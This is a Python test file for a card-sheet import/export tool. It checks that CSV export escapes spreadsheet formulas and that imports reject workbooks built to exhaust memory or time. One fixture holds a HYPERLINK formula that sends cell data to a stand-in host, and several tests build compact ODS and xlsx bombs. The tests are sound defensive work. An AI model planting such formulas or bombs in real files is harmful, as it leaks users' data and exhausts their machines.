"""Attacks through spreadsheets: a CSV export that a spreadsheet would run as formulas, and books
built to exhaust the machine (rows, cells, unpacked bytes)."""
from __future__ import annotations

import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from sheets.helpers import loaded

from .helpers import REPO, invoke, snapshot

# Texts a spreadsheet takes for a formula when they start a CSV cell (OWASP, «CSV Injection»), and
# texts that only look like the escape; «car» is a number, negative, and stays a number.
HOSTILE = """\
cartas:
  - id: brazo-x
    nombre: "+1 DEF"
    tipo: parte
    zona: brazo_derecho
    pg: 3
    car: -1
    fue: 2
    def: 1
    vel: 1
    rareza: chatarra
    ambientacion: '=HYPERLINK("http://ejemplo.com/?"&A1;"ver")'
  - id: brazo-y
    nombre: "@SUMA"
    tipo: parte
    zona: brazo_derecho
    pg: 3
    car: -2
    fue: 2
    def: 1
    vel: 1
    rareza: chatarra
    ambientacion: "'=no es una fórmula"
  - id: brazo-z
    nombre: "-1"
    tipo: parte
    zona: brazo_derecho
    pg: 3
    car: 1
    fue: 2
    def: 1
    vel: 1
    rareza: chatarra
    ambientacion: "'hola"
"""


def test_a_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unchanged(project):
    root = project({"cards/t/parte.yaml": HOSTILE})
    exported = invoke("exportar", "--cartas", "cards", "--formato", "csv", "--salida", "hojas")
    assert exported.exit_code == 0, exported.stderr
    rows = (root / "hojas" / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert rows[1].startswith("apoyo-x,") and rows[2:] == [
        "brazo-x,'+1 DEF,parte,brazo_derecho,3,-1,2,1,1,chatarra,,,,\"'=HYPERLINK(\"\"http://ejemplo.com/?\"\"&A1;"
        "\"\"ver\"\")\",,,parte.yaml",
        "brazo-y,'@SUMA,parte,brazo_derecho,3,-2,2,1,1,chatarra,,,,''=no es una fórmula,,,parte.yaml",
        "brazo-z,'-1,parte,brazo_derecho,3,1,2,1,1,chatarra,,,,'hola,,,parte.yaml"]
    (root / "copia").mkdir()
    (root / "copia" / "ruleset.yaml").write_text("paquete: nismatch\n", encoding="utf-8")
    imported = invoke("importar", "hojas", "--cartas", "copia")
    assert imported.exit_code == 0, imported.stderr
    assert loaded(root / "copia") == loaded(root / "cards")
    again = invoke("importar", "hojas", "--cartas", "cards")
    assert (again.exit_code, again.stderr) == (0, "")
    assert "0 archivos escritos" in again.stdout


@pytest.mark.parametrize("code, reason", [("tts", "build/png/tts/ guarda las hojas de Tabletop Simulator"),
                                          ("decks", "«decks/» es la carpeta de los mazos, no un set")])
def test_a_new_set_may_not_take_a_reserved_code(project, code, reason):
    project()
    run = invoke("new", "set", code, "--cards", "cards")
    assert run.exit_code == 2
    assert run.stderr.endswith(f"Error: el código «{code}» está reservado: {reason}; elige otro nombre para la carpeta "
                               "del set\n")
    assert not Path("cards", code).exists()


def _exported(root: Path) -> Path:
    assert invoke("exportar", "--cartas", "cards", "--formato", "csv", "--salida", "hojas").exit_code == 0
    return root / "hojas"


def test_a_sheet_may_not_write_a_set_called_decks(project):
    root = project()
    sheets = _exported(root)
    (sheets / "sets.csv").write_text((sheets / "sets.csv").read_text(encoding="utf-8-sig").replace("\nt,t,", "\ndecks,decks,"),
                                     encoding="utf-8")
    (sheets / "t.csv").rename(sheets / "decks.csv")
    before = snapshot(root / "cards")
    run = invoke("importar", "hojas", "--cartas", "cards")
    assert run.exit_code == 1
    assert run.stderr == ("hojas/sets.csv, fila 2, columna «codigo»: error NM010 [esquema]: el código «decks» está "
                          "reservado: «decks/» es la carpeta de los mazos, no un set\n    sugerencia: elige otro código\n"
                          "No se ha escrito nada: corrige la hoja y vuelve a importarla\n")
    assert snapshot(root / "cards") == before


@pytest.mark.parametrize("force", [(), ("--forzar",)])
def test_a_folder_where_a_sheet_writes_a_card_file_is_an_error_not_a_traceback(project, force):
    root = project()
    _exported(root)
    (root / "cards/t/parte.yaml").unlink()
    (root / "cards/t/parte.yaml").mkdir()
    run = invoke("importar", "hojas", "--cartas", "cards", *force)
    assert run.exception is None, run.exception
    assert run.exit_code == 2
    assert run.stderr.endswith("Error: «cards/t/parte.yaml» es una carpeta (o no es un archivo normal): la hoja escribe "
                               "ahí un archivo de cartas; muévela o cambia la columna «archivo»\n")


def test_an_xlsx_of_a_few_kb_with_one_value_in_its_last_cell_is_read_at_once(project):
    import openpyxl

    root = project()
    book = openpyxl.Workbook()
    book.active.title = "sets"
    book.active["A1"] = "hoja"
    book.active["ALL30000"] = "x"  # row 30,000, column 1,000: the rows before it are not in the file
    book.save(root / "bomba.xlsx")
    assert (root / "bomba.xlsx").stat().st_size < 8000
    start = time.monotonic()
    run = invoke("importar", "bomba.xlsx", "--cartas", "cards")
    assert time.monotonic() - start < 15  # 26 s (and minutes for row 1,048,576) before
    assert run.exit_code == 1
    assert run.stderr.startswith("bomba.xlsx, hoja «sets», fila 30000: error NM075 [hoja-demasiado-grande]: la hoja "
                                 "tiene más de 20000 filas\n")


def _ods(path: Path, table: str) -> Path:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               f'<table:table table:name="sets">{table}</table:table></office:spreadsheet></office:body>'
               '</office:document-content>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    return path


def test_an_ods_cell_of_runs_of_spaces_is_never_spelt_out_past_its_limit(project):
    root = project()
    cell = '<table:table-cell office:value-type="string"><text:p>x' + '<text:s text:c="20000"/>' * 60_000 + \
           'x</text:p></table:table-cell>'
    _ods(root / "espacios.ods", f"<table:table-row><table:table-cell><text:p>hoja</text:p></table:table-cell>"
                                f"</table:table-row><table:table-row>{cell}</table:table-row>")
    assert (root / "espacios.ods").stat().st_size < 100_000  # 1.2 GB of spaces, spelt out
    run = invoke("importar", "espacios.ods", "--cartas", "cards")
    assert run.exit_code == 1
    assert ("espacios.ods, hoja «sets», fila 2, columna «hoja»: error NM075 [hoja-demasiado-grande]: la celda tiene "
            "20001 caracteres; el máximo es 20000\n    sugerencia: acorta el texto\n") in run.stderr


def test_an_ods_of_repeated_cells_stops_at_the_limit_of_cells(project):
    root = project()
    text = "<text:p>" + "x" * 100 + "</text:p>"
    row = (f'<table:table-row table:number-rows-repeated="20000"><table:table-cell '
           f'table:number-columns-repeated="1000" office:value-type="string">{text}</table:table-cell></table:table-row>')
    _ods(root / "repetida.ods", row)
    start = time.monotonic()
    run = invoke("importar", "repetida.ods", "--cartas", "cards")
    assert time.monotonic() - start < 30
    assert run.exit_code == 1
    assert run.stderr.startswith("repetida.ods, hoja «sets», fila 1001: error NM075 [hoja-demasiado-grande]: el "
                                 "archivo tiene más de 1000000 celdas con algo escrito\n")


def test_twenty_mb_of_blank_csv_lines_are_read_in_little_memory(project):
    root = project()
    (root / "sets.csv").write_text("hoja,codigo,nombre,version\n" + "\n" * 20_000_000, encoding="utf-8")
    code = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30)); "
            "from nismatch_cards.sheets.books import read_book; from pathlib import Path; "
            "book = read_book(Path('sets.csv')); print(len(book.sheets['sets'].rows))")
    done = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert (done.returncode, done.stdout, done.stderr) == (0, "1\n", "")  # a list of every line took 1.5 GB
